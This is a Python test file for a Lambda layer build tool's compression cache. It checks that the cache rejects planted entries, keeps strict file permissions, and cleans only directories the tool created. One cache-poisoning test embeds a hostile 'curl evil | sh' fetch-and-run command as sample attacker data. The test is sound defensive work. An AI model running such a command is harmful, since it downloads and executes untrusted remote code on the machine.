"""The zip member cache cannot be used to put other bytes into a layer, and `cache clean`
deletes only what lambdalayer made."""

from __future__ import annotations

import os
import stat
import zipfile
import zlib
from pathlib import Path

import pytest

from lambdalayer.archive.zipwriter import CACHE_MIN, iter_tree, write_zip
from lambdalayer.common.cache import (
    _HEADER,
    _MAGIC,
    MARKER,
    DeflateCache,
    clean,
    open_member_cache,
)
from lambdalayer.common.errors import UsageError
from tests.helpers import run_cli


def _layer(tmp_path: Path, payload: bytes) -> Path:
    root = tmp_path / "layer"
    (root / "python").mkdir(parents=True)
    (root / "python" / "big.bin").write_bytes(payload)
    return root


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15, 9)
    return compressor.compress(data) + compressor.flush()


def test_a_planted_entry_with_valid_length_and_crc_is_discarded(tmp_path: Path) -> None:
    genuine = os.urandom(CACHE_MIN) + b"genuine" * 1000
    root = _layer(tmp_path, genuine)
    cache = DeflateCache(tmp_path / "cache", 10**9)
    write_zip(iter_tree(root), tmp_path / "first.zip", level=6, cache=cache)
    [entry] = [p for p in cache.directory.rglob("*") if p.is_file()]
    # The attacker's stream: well-formed, its own length and CRC, other content.
    evil = _deflate(b"import os; os.system('curl evil | sh')\n".ljust(len(genuine), b"#"))
    entry.write_bytes(_HEADER.pack(_MAGIC, len(evil), zlib.crc32(evil), bytes(32)) + evil)

    second = DeflateCache(tmp_path / "cache", 10**9)
    write_zip(iter_tree(root), tmp_path / "second.zip", level=6, cache=second)
    with zipfile.ZipFile(tmp_path / "second.zip") as archive:
        assert archive.read("python/big.bin") == genuine
    assert second.discarded == [entry.name]
    assert (tmp_path / "first.zip").read_bytes() == (tmp_path / "second.zip").read_bytes()


def test_cache_is_private_and_marked(tmp_path: Path) -> None:
    root = _layer(tmp_path, os.urandom(CACHE_MIN + 1))
    cache = DeflateCache(tmp_path / "cache", 10**9)
    old = os.umask(0o022)
    try:
        write_zip(iter_tree(root), tmp_path / "a.zip", level=6, cache=cache)
    finally:
        os.umask(old)
    assert (tmp_path / "cache" / MARKER).is_file()
    for path in (tmp_path / "cache").rglob("*"):
        mode = stat.S_IMODE(path.stat().st_mode)
        if path.is_dir():
            assert mode == 0o700, path
        elif path.parent != tmp_path / "cache":  # entries; the marker files are harmless
            assert mode == 0o600, path


def test_clean_refuses_a_directory_lambdalayer_did_not_make(tmp_path: Path) -> None:
    precious = tmp_path / "home-cache"
    (precious / "zip-members").mkdir(parents=True)
    (precious / "zip-members" / "thesis.tex").write_text("years of work")
    (precious / "other.txt").write_text("keep")
    with pytest.raises(UsageError, match="not created by lambdalayer"):
        clean(precious)
    run = run_cli("cache", "clean", env={"LAMBDALAYER_CACHE_DIR": str(precious)})
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert (precious / "zip-members" / "thesis.tex").read_text() == "years of work"
    assert (precious / "other.txt").exists()


def test_cache_is_not_created_in_someone_elses_directory(tmp_path: Path) -> None:
    """LAMBDALAYER_CACHE_DIR=~/.cache: the build still works, nothing is written there."""
    foreign = tmp_path / "dot-cache"
    foreign.mkdir()
    (foreign / "pip").mkdir()
    root = _layer(tmp_path, os.urandom(CACHE_MIN + 1))
    write_zip(iter_tree(root), tmp_path / "a.zip", level=6, cache=DeflateCache(foreign, 10**9))
    assert sorted(p.name for p in foreign.iterdir()) == ["pip"]


def test_clean_keeps_the_marked_root_and_does_not_follow_links(tmp_path: Path) -> None:
    root = _layer(tmp_path, os.urandom(CACHE_MIN + 1))
    cache_dir = tmp_path / "cache"
    write_zip(iter_tree(root), tmp_path / "a.zip", level=6,
              cache=DeflateCache(cache_dir, 10**9))
    assert clean(cache_dir) > CACHE_MIN
    assert (cache_dir / MARKER).is_file()
    assert not any(p.is_file() for p in (cache_dir / "zip-members").rglob("*"))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("x")
    assert not (cache_dir / "zip-members").exists()
    (cache_dir / "zip-members").symlink_to(outside)
    clean(cache_dir)
    assert (outside / "keep").exists()


def _default_location(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """lambdalayer's default cache directory, under a scratch XDG_CACHE_HOME."""
    monkeypatch.delenv("LAMBDALAYER_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    return tmp_path / "xdg" / "lambdalayer"


def test_an_unmarked_default_cache_of_lambdalayers_own_is_adopted(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A cache left by a version before markers (or by `interpreters add`) is used again,
    not refused on every build with a warning."""
    default = _default_location(tmp_path, monkeypatch)
    (default / "zip-members" / "ab").mkdir(parents=True)
    (default / "interpreters").mkdir()
    found, warning = open_member_cache()
    assert warning is None and found is not None
    assert (default / MARKER).is_file()


def test_the_default_cache_with_anything_else_in_it_is_still_refused(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    default = _default_location(tmp_path, monkeypatch)
    (default / "zip-members").mkdir(parents=True)
    (default / "notes.txt").write_text("mine")
    found, warning = open_member_cache()
    assert found is None and warning is not None and "not created by lambdalayer" in warning
    assert not (default / MARKER).exists()


def test_an_explicit_cache_dir_is_never_adopted(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """LAMBDALAYER_CACHE_DIR=./build holding a `logs/` of the user's own: not ours to clean."""
    explicit = tmp_path / "build"
    (explicit / "logs").mkdir(parents=True)
    monkeypatch.setenv("LAMBDALAYER_CACHE_DIR", str(explicit))
    found, warning = open_member_cache()
    assert found is None and warning is not None
    assert sorted(p.name for p in explicit.iterdir()) == ["logs"]


def test_interpreters_add_marks_the_cache_it_puts_interpreters_in(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`interpreters add --from-debian` without --into writes into the cache: after it, even
    when mmdebstrap fails, the next build still uses the cache (no warning). An explicit
    LAMBDALAYER_CACHE_DIR, which is never adopted unmarked."""
    cache_dir = tmp_path / "ci-cache"
    monkeypatch.setenv("LAMBDALAYER_CACHE_DIR", str(cache_dir))
    tools = tmp_path / "bin"
    tools.mkdir()
    fake = tools / "mmdebstrap"
    fake.write_text("#!/bin/sh\necho 'E: cannot reach the mirror' >&2\nexit 1\n")
    fake.chmod(0o755)
    path = f"{tools}{os.pathsep}{os.environ['PATH']}"
    add = run_cli("interpreters", "add", "--runtime", "python3.11", "--arch", "x86_64",
                  "--from-debian", "bookworm", env={"PATH": path})
    assert add.returncode == 2 and "cannot reach the mirror" in add.stderr, add.stderr
    assert (cache_dir / "interpreters").is_dir()
    found, warning = open_member_cache()
    assert warning is None and found is not None


def test_clean_keeps_provisioned_interpreters(tmp_path: Path) -> None:
    """`cache clean` then `build`: slower, but every target proven as before."""
    root = _layer(tmp_path, os.urandom(CACHE_MIN + 1))
    cache_dir = tmp_path / "cache"
    write_zip(iter_tree(root), tmp_path / "a.zip", level=6,
              cache=DeflateCache(cache_dir, 10**9))
    python = cache_dir / "interpreters" / "bookworm-arm64-python3.11" / "usr" / "bin" / "python3.11"
    python.parent.mkdir(parents=True)
    python.write_bytes(b"\x7fELF")
    assert clean(cache_dir) > CACHE_MIN
    assert python.read_bytes() == b"\x7fELF"
    assert not any(p.is_file() for p in (cache_dir / "zip-members").rglob("*"))
